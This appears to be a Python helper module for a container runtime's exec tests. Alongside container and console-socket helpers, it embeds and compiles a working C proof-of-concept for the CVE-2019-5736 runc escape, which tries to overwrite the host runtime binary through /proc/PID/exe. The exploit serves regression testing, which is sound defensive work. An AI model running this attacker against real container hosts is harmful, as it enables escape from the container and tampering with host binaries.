# SPDX-License-Identifier: GPL-2.0-or-later
"""Helpers of test_exec.py: a running container to exec into, the console
socket receiver, and the CVE-2019-5736 attacker (a static C program built on
the host and dropped into the rootfs)."""

import array
import hashlib
import shutil
import socket
import subprocess
from pathlib import Path

from helpers import sh

LOOP = "while :; do sleep 0.1; done"


def start_container(rt, bundle, script=LOOP, started=True):
  """create (and start) a container running `script`; returns its id."""
  cid = rt.create(bundle, args=sh(script))
  if started:
    res = rt("start", cid)
    assert res.rc == 0, res
    rt.wait_status(cid, "running")
  return cid


def exec_out(rt, cid, *args, extra=(), timeout=None):
  """`exec` that must succeed; returns its stdout."""
  kw = {} if timeout is None else {"timeout": timeout}
  res = rt("exec", *extra, cid, *args, **kw)
  assert res.rc == 0, res
  return res.out


def status_fields(text):
  fields = {}
  for line in text.splitlines():
    key, sep, value = line.partition(":")
    if sep:
      fields[key] = value.strip()
  return fields


class ConsoleSocket:
  """A listening unix socket that receives one pty master (SCM_RIGHTS)."""

  def __init__(self, path):
    self.path = Path(path)
    self.srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    self.srv.bind(str(self.path))
    self.srv.listen(1)
    self.srv.settimeout(20)

  def receive(self):
    conn, _ = self.srv.accept()
    conn.settimeout(10)
    fds = array.array("i")
    _, anc, _, _ = conn.recvmsg(1024, socket.CMSG_SPACE(4 * fds.itemsize))
    for level, kind, data in anc:
      if level == socket.SOL_SOCKET and kind == socket.SCM_RIGHTS:
        fds.frombytes(data[:len(data) - (len(data) % fds.itemsize)])
    conn.close()
    self.srv.close()
    assert len(fds) == 1, "no fd received on the console socket"
    return fds[0]


def sha256(path):
  with open(path, "rb") as f:
    return hashlib.sha256(f.read()).hexdigest()


# The attacker of CVE-2019-5736: from inside the container, look for any
# process whose /proc/PID/exe is not busybox (i.e. the runtime, caught
# between its clone into the container and its execve), keep an O_PATH
# handle on it and try to reopen it for writing, both directly and once the
# runtime has exited (the write is refused with ETXTBSY while it runs).
# Reports every handle it got and every successful write on stdout.
ATTACKER_C = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <sys/stat.h>
#include <unistd.h>

static int held[256];
static int n_held;

/* The container's own binaries: busybox and this program. */
static struct stat known[2];

static int is_known(int fd) {
  struct stat st;
  if (fstat(fd, &st) < 0)
    return 1;
  for (int i = 0; i < 2; i++)
    if (st.st_dev == known[i].st_dev && st.st_ino == known[i].st_ino)
      return 1;
  return 0;
}

int main(int argc, char **argv) {
  double secs = argc > 1 ? atof(argv[1]) : 10;
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  pid_t self = getpid();
  if (stat("/bin/busybox", &known[0]) < 0 || stat("/proc/self/exe", &known[1]) < 0)
    return 2;
  int writes = 0;
  for (;;) {
    clock_gettime(CLOCK_MONOTONIC, &t);
    if ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 > secs)
      break;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == self)
        continue;
      char p[64];
      snprintf(p, sizeof(p), "/proc/%d/exe", pid);
      int w = open(p, O_WRONLY | O_APPEND);
      if (w >= 0) {
        printf("direct write open of %s\n", p);
        if (write(w, "PWNED", 5) == 5)
          writes++;
        close(w);
      }
      int fd = open(p, O_RDONLY | O_CLOEXEC);
      if (fd < 0)
        continue;
      if (is_known(fd) || n_held >= 256) {
        close(fd);
        continue;
      }
      printf("got a handle on %s\n", p);
      fflush(stdout);
      held[n_held++] = fd;
    }
    if (d)
      closedir(d);
    for (int i = 0; i < n_held; i++) {
      char p[64];
      snprintf(p, sizeof(p), "/proc/self/fd/%d", held[i]);
      int w = open(p, O_WRONLY | O_APPEND);
      if (w >= 0) {
        printf("reopened %s for writing\n", p);
        if (write(w, "PWNED", 5) == 5)
          writes++;
        close(w);
      }
    }
  }
  printf("attacker done: %d handles, %d writes\n", n_held, writes);
  return 0;
}
"""


def build_attacker(workdir, dest):
  """Compile the attacker statically into dest (a path in the rootfs);
  returns False when no static C toolchain is around."""
  cc = shutil.which("cc") or shutil.which("gcc")
  if not cc:
    return False
  src = Path(workdir) / "attacker.c"
  src.write_text(ATTACKER_C)
  res = subprocess.run([cc, "-O2", "-static", "-o", str(dest), str(src)],
                       capture_output=True, text=True)
  return res.returncode == 0
